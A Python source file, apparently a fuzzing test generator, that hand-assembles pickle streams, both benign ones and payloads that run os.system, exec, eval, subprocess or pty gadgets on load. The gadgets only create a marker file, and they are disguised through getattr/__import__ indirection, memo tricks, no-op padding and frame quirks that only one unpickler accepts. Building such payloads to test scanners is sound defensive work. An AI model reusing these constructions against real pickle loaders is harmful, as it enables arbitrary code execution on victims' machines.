"""Pickle streams for the oracle: an assembler of opcodes, payloads that call a marker-writing
gadget in every way CPython's unpicklers call things, benign streams written by pickle.dumps,
and grammar-aware mutations (opcode forms, arguments, memo, frames, no-ops) that keep a stream's
meaning for the loaders, or change it in ways only one unpickler accepts.

Opcode semantics follow Lib/pickle.py (`_Unpickler.load_*`, the pure-Python unpickler) and
Modules/_pickle.c (`load_*`, the C unpickler); where they differ it is said at the mutation.
"""
import pickle
import struct
from collections import OrderedDict

MARKER = "mg_marker"
CMD = f"touch {MARKER}"
CODE = f"open('{MARKER}','w').close()"
EXPR = f"open('{MARKER}','w')"

# (module, name, args): each writes the marker and nothing else when called with args.
GADGETS = [
    ("os", "system", (CMD,)),
    ("posix", "system", (CMD,)),
    ("builtins", "exec", (CODE,)),
    ("builtins", "eval", (EXPR,)),
    ("__builtin__", "eval", (EXPR,)),  # _pickle/_compat_pickle map it to builtins below protocol 3
    ("subprocess", "getoutput", (CMD,)),
    ("subprocess", "getstatusoutput", (CMD,)),
    ("builtins", "open", (MARKER, "w")),
    ("io", "open", (MARKER, "w")),
    ("codecs", "open", (MARKER, "w")),
    ("logging", "FileHandler", (MARKER,)),
    ("posixpath", "os.system", (CMD,)),  # a dotted name: find_class walks it from protocol 4
    ("pty", "spawn", (["touch", MARKER],)),
    ("commands", "getoutput", (CMD,)),  # Python 2 name, mapped by fix_imports below protocol 3
]


class Asm:
    """Bytes of a pickle stream, opcode by opcode."""

    def __init__(self, rng=None):
        self.b = bytearray()
        self.rng = rng

    def op(self, code, arg=b""):
        self.b += bytes([code]) + arg
        return self

    def raw(self, b):
        self.b += b
        return self

    def bytes(self):
        return bytes(self.b)


def enc_str(rng, s, proto, allow_bytes=False, tags=None):
    """Push the str `s` with one of the opcodes that yield a str to Python 3 (or bytes, where
    the consumer accepts them). STRING/BINSTRING/SHORT_BINSTRING decode with the unpickler's
    `encoding` (ASCII by default; torch passes utf-8)."""
    forms = ["short_binunicode", "binunicode", "binunicode8", "unicode"]
    if all(ord(c) < 128 for c in s):
        forms += ["string", "binstring", "short_binstring"]
        if allow_bytes:
            forms += ["short_binbytes", "binbytes"]
    form = rng.choice(forms)
    if tags is not None:
        tags.add("str:" + form)
    u = s.encode("utf-8", "surrogatepass")
    if form == "short_binunicode" and len(u) < 256:
        return bytes([0x8C, len(u)]) + u
    if form in ("short_binunicode", "binunicode"):
        return b"X" + struct.pack("<I", len(u)) + u
    if form == "binunicode8":
        return b"\x8d" + struct.pack("<Q", len(u)) + u
    if form == "unicode":
        # raw-unicode-escape: \uXXXX escapes decode, a backslash before anything else is kept
        out = []
        for c in s:
            if c in "\\\n\r" or (rng.random() < 0.3 and c.isalpha()):
                out.append("\\u%04x" % ord(c))
            else:
                out.append(c)
        return b"V" + "".join(out).encode("raw-unicode-escape") + b"\n"
    a = s.encode("ascii")
    if form == "string":
        # repr-like quoting with escapes (_pickle.c load_string: PyBytes_DecodeEscape)
        q = rng.choice(["'", '"'])
        body = []
        for ch in a:
            c = chr(ch)
            r = rng.random()
            if c == q or c == "\\":
                body.append("\\" + c)
            elif r < 0.15:
                body.append("\\x%02x" % ch)
            elif r < 0.2:
                body.append("\\%03o" % ch)
            else:
                body.append(c)
        return b"S" + (q + "".join(body) + q).encode("ascii") + b"\n"
    if form == "binstring":
        return b"T" + struct.pack("<i", len(a)) + a
    if form == "short_binstring":
        return b"U" + bytes([len(a)]) + a
    if form == "short_binbytes":
        return b"C" + bytes([len(a)]) + a
    return b"B" + struct.pack("<I", len(a)) + a


def push_arg(rng, v, proto, tags):
    if isinstance(v, str):
        return enc_str(rng, v, proto, allow_bytes=rng.random() < 0.1 and v == CMD, tags=tags)
    if isinstance(v, list):
        out = b"]("
        for x in v:
            out += push_arg(rng, x, proto, tags)
        return out + b"e"
    raise TypeError(v)


def memo_put(rng, idx, proto, tags):
    f = rng.choice(["p", "q", "r"] + (["memoize"] if proto >= 4 else []))
    tags.add("memo:" + f)
    if f == "p":
        return b"p%d\n" % idx
    if f == "q" and idx < 256:
        return b"q" + bytes([idx])
    if f == "memoize":
        return b"\x94"
    return b"r" + struct.pack("<I", idx)


def memo_get(rng, idx, tags):
    f = rng.choice(["g", "h", "j"])
    if f == "g":
        return b"g%d\n" % idx
    if f == "h" and idx < 256:
        return b"h" + bytes([idx])
    return b"j" + struct.pack("<I", idx)


def push_callable(rng, mod, name, proto, tags, memo):
    """Push module.name: GLOBAL (text lines), STACK_GLOBAL (two strs; _pickle.c requires
    str, pickle.py too), or through the memo; or builtins.getattr(__import__(mod), name)."""
    forms = ["global", "stack_global", "memo", "getattr"]
    if "." in name:
        forms = ["global", "stack_global"]  # a dotted name needs protocol 4 anyway
    form = rng.choice(forms)
    tags.add("callable:" + form)
    if form == "global":
        return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"
    if form == "stack_global":
        return enc_str(rng, mod, proto, tags=tags) + enc_str(rng, name, proto, tags=tags) + b"\x93"
    if form == "memo":
        idx = memo[0]
        memo[0] += 1
        return (b"c" + mod.encode() + b"\n" + name.encode() + b"\n" + memo_put(rng, idx, proto, tags)
                + b"0" + noops(rng, proto, tags, 2) + memo_get(rng, idx, tags))
    # builtins.getattr(builtins.__import__('mod'), 'name'): the callable is built at load time
    b = b"cbuiltins\ngetattr\n" + b"cbuiltins\n__import__\n" + enc_str(rng, mod, proto, tags=tags) + b"\x85R"
    return b + enc_str(rng, name, proto, tags=tags) + b"\x86R"


def noops(rng, proto, tags, n=None):
    """Opcodes that leave the stack as it was: NONE+POP, MARK+POP_MARK, a value pushed and
    popped, DUP+POP (of something pushed), a PROTO (load_proto only checks the number)."""
    out = b""
    for _ in range(rng.randrange(0, 3) if n is None else rng.randrange(0, n + 1)):
        k = rng.choice(["N0", "(1", "K0", "dup", "proto", "empty"])
        tags.add("noop:" + k)
        if k == "N0":
            out += b"N0"
        elif k == "(1":
            out += b"(1"
        elif k == "K0":
            out += b"K\x07" + b"0"
        elif k == "dup":
            out += b"N20" + b"0"
        elif k == "proto":
            out += b"\x80" + bytes([rng.choice([2, 3, 4, 5])])
        else:
            out += b")0"
    return out


def call(rng, gadget, proto, tags, memo, py_only=False):
    """Bytes that call the gadget once and leave its result on the stack."""
    mod, name, args = gadget
    forms = ["reduce", "reduce", "obj", "inst"]
    if py_only:
        forms.append("reduce_list")  # pickle._Unpickler.load_reduce calls func(*args): any iterable
    if "." in name or mod == "builtins" and name == "getattr":
        forms = [f for f in forms if f != "inst"]
    form = rng.choice(forms)
    tags.add("call:" + form)
    pushed = b"".join(push_arg(rng, a, proto, tags) for a in args)
    if form == "inst":
        # INST: MARK args... then module/name lines; _instantiate calls klass(*args)
        return b"(" + pushed + b"i" + mod.encode() + b"\n" + name.encode() + b"\n"
    c = push_callable(rng, mod, name, proto, tags, memo)
    if form == "obj":
        # OBJ: MARK callable args... ; _instantiate calls it since it is no class (or with args)
        return b"(" + c + noops(rng, proto, tags) + pushed + b"o"
    if form == "reduce_list":
        return c + b"](" + pushed + b"e" + b"R"
    n = len(args)
    if n <= 3 and rng.random() < 0.6:
        tup = pushed + {0: b")", 1: b"\x85", 2: b"\x86", 3: b"\x87"}[n]
    else:
        tup = b"(" + pushed + b"t"
    if rng.random() < 0.3:
        idx = memo[0]
        memo[0] += 1
        tup += memo_put(rng, idx, proto, tags)
    return c + noops(rng, proto, tags) + tup + noops(rng, proto, tags) + b"R"


def wrap(rng, body, proto, tags):
    """Put the value `body` leaves on the stack somewhere inside a larger structure."""
    k = rng.choice(["bare", "list", "dict", "tuple", "nested"])
    tags.add("wrap:" + k)
    if k == "bare":
        return body
    if k == "list":
        return b"](" + b"K\x01" + body + b"e"
    if k == "dict":
        return b"}(" + enc_str(rng, "state_dict", proto, tags=tags) + body + b"u"
    if k == "tuple":
        return b"(K\x01" + body + b"t"
    return b"}(" + enc_str(rng, "a", proto, tags=tags) + b"](" + body + b"eu"


def header(rng, proto, tags):
    if proto >= 2 or rng.random() < 0.2:
        tags.add(f"proto:{proto}")
        return b"\x80" + bytes([proto])
    return b""


def frame(rng, body, proto, tags):
    """Protocol 4+ FRAME around the body. An overlong frame (more bytes than are left) is read
    short by pickle.py's _Unframer (file_read of what is there) but refused by _pickle.c."""
    if proto < 4 or rng.random() < 0.4:
        return body
    r = rng.random()
    if r < 0.1:
        tags.add("frame:overlong")
        return b"\x95" + struct.pack("<Q", len(body) + rng.randrange(1, 1 << 16)) + body
    if r < 0.3 and len(body) > 4:
        # two frames: the split falls between two opcodes only by luck, so keep it at 0
        tags.add("frame:split")
        return b"\x95" + struct.pack("<Q", 0) + b"\x95" + struct.pack("<Q", len(body)) + body
    tags.add("frame:one")
    return b"\x95" + struct.pack("<Q", len(body)) + body


def payload(rng, py_only=False):
    """A stream whose load writes the marker. Returns (bytes, tags, gadget)."""
    tags = set()
    proto = rng.choice([0, 1, 2, 2, 3, 4, 4, 5])
    g = rng.choice(GADGETS)
    mod, name, args = g
    if "." in name and proto < 4:
        proto = 4
    if mod in ("__builtin__", "commands") and proto >= 3:
        proto = 2
    tags.add(f"gadget:{mod}.{name}")
    memo = [0]
    body = noops(rng, proto, tags) + wrap(rng, call(rng, g, proto, tags, memo, py_only), proto, tags) + noops(rng, proto, tags) + b"."
    data = header(rng, proto, tags) + frame(rng, body, proto, tags)
    if rng.random() < 0.2:
        tags.add("trailing")
        data += rng.choice([b"\x00" * 7, b"garbage", pickle.dumps([1, 2], 2)])
    return data, tags, g


def benign_object(rng, depth=0):
    k = rng.randrange(0, 14 if depth < 3 else 8)
    if k == 0:
        return None
    if k == 1:
        return rng.randrange(-300, 300)
    if k == 2:
        return rng.choice([2**40, -(2**70), 10**30])
    if k == 3:
        return rng.choice([0.5, -1e300, float("inf"), 1e-310])
    if k == 4:
        return rng.choice(["", "w", "caf\u00e9", "\U0001f600", "a" * 300])
    if k == 5:
        return rng.choice([b"", b"\x00\xff", b"x" * 300])
    if k == 6:
        return rng.choice([True, False])
    if k == 7:
        return complex(1, 2)
    if k == 8:
        return [benign_object(rng, depth + 1) for _ in range(rng.randrange(0, 4))]
    if k == 9:
        return tuple(benign_object(rng, depth + 1) for _ in range(rng.randrange(0, 4)))
    if k == 10:
        return {f"k{i}": benign_object(rng, depth + 1) for i in range(rng.randrange(0, 4))}
    if k == 11:
        return OrderedDict((f"w{i}", benign_object(rng, depth + 1)) for i in range(rng.randrange(0, 3)))
    if k == 12:
        return rng.choice([{1, 2}, frozenset({"a"}), bytearray(b"ba")])
    return {"shared": (lambda x: [x, x])([1, 2])}


def benign(rng):
    """pickle.dumps of plain data (the imports it writes: builtins/copyreg/_codecs/collections
    callables the lists allow)."""
    tags = {"benign"}
    proto = rng.randrange(0, 6)
    tags.add(f"proto:{proto}")
    return pickle.dumps(benign_object(rng), protocol=proto), tags


def benign_asm(rng):
    """Hand-assembled plain data in opcode forms pickle.dumps never writes, some only
    pickle._Unpickler accepts. Returns (bytes, tags)."""
    tags = {"benign", "asm"}
    proto = rng.choice([0, 1, 2, 3, 4, 5])
    parts = []
    for _ in range(rng.randrange(1, 6)):
        k = rng.choice(["str", "int", "float", "long", "list", "dict", "memo", "noop", "bytes"])
        tags.add("value:" + k)
        if k == "str":
            parts.append(enc_str(rng, rng.choice(["abc", "x y", "caf\u00e9", "\\u0041", "it's"]), proto, tags=tags))
        elif k == "int":
            # pickle.py load_int: int(line) (underscores, spaces); _pickle.c load_int: strtol
            line = rng.choice(["0", "01", "-7", "1_000", " 5", "00", "99999999999999999999"])
            if line in ("1_000", " 5"):
                tags.add("py-only:int")
            parts.append(b"I" + line.encode() + b"\n")
        elif k == "float":
            # pickle.py load_float: float(line); _pickle.c: PyOS_string_to_double
            line = rng.choice(["1.5", "-0.0", "inf", "nan", "1e-5", " 2.5", "1_0.5", "2.5 "])
            if line in (" 2.5", "1_0.5", "2.5 "):
                tags.add("py-only:float")
            parts.append(b"F" + line.encode() + b"\n")
        elif k == "long":
            line = rng.choice(["0L", "12345678901234567890L", "-5L", "7"])
            parts.append(b"L" + line.encode() + b"\n")
        elif k == "list":
            parts.append(b"](K\x01K\x02e")
        elif k == "dict":
            parts.append(b"}(" + enc_str(rng, "k", proto, tags=tags) + b"K\x03u")
        elif k == "memo":
            parts.append(b"K\x05" + memo_put(rng, 0, proto, tags) + b"0" + memo_get(rng, 0, tags))
        elif k == "noop":
            parts.append(b"N")
            parts.append(noops(rng, proto, tags, 2))
        else:
            parts.append(b"C\x03abc" if proto >= 3 else b"U\x03abc")
    body = b"(" + b"".join(parts) + b"l."
    return header(rng, proto, tags) + frame(rng, body, proto, tags), tags
